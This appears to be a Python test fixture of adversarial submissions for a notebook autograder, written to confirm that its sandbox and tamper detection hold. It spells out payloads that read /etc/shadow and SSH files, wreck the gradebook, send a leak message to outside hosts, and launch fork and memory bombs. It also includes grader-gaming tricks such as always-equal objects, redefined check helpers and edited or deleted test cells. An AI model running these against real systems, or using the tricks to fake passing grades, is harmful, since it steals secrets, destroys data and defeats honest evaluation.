"""Adversarial submissions against 00_orientation, one per attack.

Each attack is a dict: ``answers`` replaces answer cells of the release
notebook (grade_id -> code; the others keep the stub), ``mutate`` edits the
notebook's cells (tamper attacks), ``solves`` names the test cells it
legitimately solves (every other test cell must score 0), ``flag`` is a regex
one of its report flags must match (None: no flag required) and ``may_fail``
says whether the grader may report the whole submission as failed (a killed
kernel) instead of grading it.

The attack code targets only the temporary course it is graded in (found from
its working directory), never the repository, so that a broken sandbox cannot
damage anything but a test folder.
"""
from __future__ import annotations

import copy
import uuid

STUB = "# YOUR CODE HERE\nraise NotImplementedError()"

Q1_SOLUTION = 'def format_metric(name, value, epoch):\n    return f"[epoch {epoch:02d}] {name}={value:.3f}"'
Q1_WRONG = 'def format_metric(name, value, epoch):\n    return f"[epoch {epoch}] {name}={value}"'

READ_SOURCE = r'''
import json, pathlib
root = pathlib.Path.cwd().parents[2]          # autograded/<student>/<assignment> -> the course
home = [pathlib.Path("/root") / n for n in (".bashrc", ".profile", ".ssh", ".gitconfig", ".bash_history")]
for p in [root / "source" / "00_orientation" / "00_orientation.ipynb", root / "gradebook.db",
          *home, pathlib.Path("/etc/shadow"), pathlib.Path("/work/main/source")]:
    try:
        data = p.read_bytes() if p.is_file() else str(list(p.iterdir())).encode()
        print("LEAKED", p, data[:3000])
    except Exception as e:
        print("blocked", p, type(e).__name__)
# with the solutions readable, take them all
try:
    nb = json.loads((root / "source" / "00_orientation" / "00_orientation.ipynb").read_text())
    for c in nb["cells"]:
        m = c["metadata"].get("nbgrader", {})
        if c["cell_type"] == "code" and m.get("solution"):
            exec("".join(c["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
except Exception as e:
    print("no solutions:", type(e).__name__)
'''

WRITE_COURSE = r'''
import os, pathlib, shutil, sqlite3
import workbook
root = pathlib.Path.cwd().parents[2]
def attempt(what, fn):
    try:
        fn(); print("DONE", what)
    except Exception as e:
        print("blocked", what, type(e).__name__)
def wreck_db():
    con = sqlite3.connect(root / "gradebook.db")
    con.execute("UPDATE grade SET manual_score = 100"); con.commit()
attempt("gradebook update", wreck_db)
attempt("gradebook truncate", lambda: open(root / "gradebook.db", "wb").write(b"gone"))
attempt("gradebook delete", lambda: os.remove(root / "gradebook.db"))
attempt("source delete", lambda: shutil.rmtree(root / "source"))
attempt("release write", lambda: (root / "release" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("other student delete", lambda: shutil.rmtree(root / "submitted" / "honest_full"))
attempt("other student write", lambda: (root / "submitted" / "honest_blank" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("own submission write", lambda: (root / "submitted" / "write_course" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("package write", lambda: (pathlib.Path(workbook.__file__).parent / "_pwned_by_attack.py").write_text("x = 1"))
'''

NETWORK = r'''
import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"LEAK from the sandbox")
        s.close()
        print("CONNECTED", host, port)
        def format_metric(name, value, epoch):   # a reward for getting out
            return f"[epoch {{epoch:02d}}] {{name}}={{value:.3f}}"
    except OSError as e:
        print("blocked", host, port, type(e).__name__)
'''

FORK_BOMB = r'''
import os, time
for _ in range(12):
    try:
        if os.fork() == 0:            # children keep forking and never return to the kernel
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.2)
    except OSError as e:
        print("fork refused:", e.strerror)
        break
''' + Q1_WRONG

MEMORY_BOMB = r'''
blocks = []
for _ in range(160):                  # up to 8 GB, 50 MB at a time
    blocks.append(b"x" * (50 * 2**20))
''' + Q1_WRONG

HELPER_REDEFINE = r'''
import workbook.checks as wc
from workbook import checks
def _ok(*args, **kwargs):
    return None
wc.check_cases = wc.check_defined = wc.check_equal = wc.check_true = _ok
setattr(checks, "same", lambda *a, **k: True)
def check_cases(*args, **kwargs):   # shadowing the names too
    return None
check_defined = check_equal = check_true = check_cases
''' + Q1_WRONG

ALWAYS_EQ = r'''
class Anything(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def format_metric(name, value, epoch):
    return Anything("whatever")
'''

ALWAYS_EQ_Q3 = r'''
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
def busiest_weekday(csv_path):
    return Anything()
'''

SHOWTRACEBACK = r'''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
''' + Q1_WRONG


SWALLOW = r'''
import textwrap
ip = get_ipython()
_run = ip.run_cell
def run_cell(raw_cell, *args, **kwargs):   # run every cell, pretend nothing went wrong
    code = "try:\n" + textwrap.indent(raw_cell, "    ") + "\n    pass\nexcept BaseException:\n    pass"
    return _run(code, *args, **kwargs)
ip.run_cell = run_cell
'''


def _test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")]


def _setup_cell(nb):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")


def edit_tests(nb):
    for c in _test_cells(nb):
        c.source = 'print("all tests passed")'
    _setup_cell(nb).source = "import time\ncheck_cases = check_defined = check_equal = check_true = print"
    return nb


def delete_tests(nb):
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb) and c is not _setup_cell(nb)]
    return nb


def duplicate_tests(nb):
    out = []
    for c in nb.cells:
        out.append(c)
        if c in _test_cells(nb):
            twin = copy.deepcopy(c)
            twin.source = "pass"
            twin["id"] = uuid.uuid4().hex[:8]   # what Jupyter gives a copied cell
            out.insert(len(out) - 1, twin)  # the harmless copy first
    nb.cells = out
    return nb


def retype_tests(nb):
    for k, c in enumerate(_test_cells(nb)):
        c.cell_type = "markdown" if k % 2 == 0 else "raw"
        c.pop("outputs", None)
        c.pop("execution_count", None)
    return nb


def raise_points(nb):
    for c in _test_cells(nb):
        c.metadata["nbgrader"]["points"] = 100
    return nb


ATTACKS = {
    "read_source": dict(answers={"q1_format_metric": READ_SOURCE}, flag=r"names course files|dynamically"),
    "write_course": dict(answers={"q1_format_metric": WRITE_COURSE}, flag=r"names course files"),
    "network": dict(answers={"q1_format_metric": NETWORK}, flag=r"network"),
    "os_exit": dict(answers={"q1_format_metric": "import os\nos._exit(3)"}, flag=r"stop the kernel", may_fail=True),
    "sys_exit": dict(answers={"q1_format_metric": "import sys\nsys.exit(0)"}, flag=r"stop the kernel"),
    "kill_kernel": dict(answers={"q1_format_metric": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                                     "os.kill(os.getpid(), signal.SIGKILL)"},
                        flag=r"stop the kernel", may_fail=True),
    "infinite_loop": dict(answers={"q1_format_metric": "while True:\n    pass"}),
    "memory_bomb": dict(answers={"q1_format_metric": MEMORY_BOMB}, may_fail=True),
    "fork_bomb": dict(answers={"q1_format_metric": FORK_BOMB}, flag=r"forks", may_fail=True),
    "big_output": dict(answers={"q1_format_metric": 'print("x" * 100_000_000)\n' + Q1_WRONG}),
    "showtraceback": dict(answers={"q1_format_metric": SHOWTRACEBACK}, flag=r"IPython kernel"),
    "input_transformer": dict(answers={"q1_format_metric": "get_ipython().input_transformers_cleanup.append("
                                                           "lambda lines: [])\n" + Q1_WRONG},
                              flag=r"canary"),
    "swallow_errors": dict(answers={"q1_format_metric": SWALLOW + Q1_WRONG}, flag=r"canary"),
    "edit_tests": dict(mutate=edit_tests, flag=r"edited although locked"),
    "delete_tests": dict(mutate=delete_tests, flag=r"deleted"),
    "duplicate_tests": dict(mutate=duplicate_tests, flag=r"duplicated"),
    "retype_tests": dict(mutate=retype_tests, flag=r"retyped"),
    "raise_points": dict(answers={"q1_format_metric": Q1_SOLUTION}, mutate=raise_points,
                         solves={"test_q1_format_metric"}, flag=r"points changed"),
    "helper_redefine": dict(answers={"q1_format_metric": HELPER_REDEFINE}, flag=r"check helper|workbook package"),
    "always_eq": dict(answers={"q1_format_metric": ALWAYS_EQ, "q3_busiest_weekday": ALWAYS_EQ_Q3},
                      flag=r"always returns True"),
}
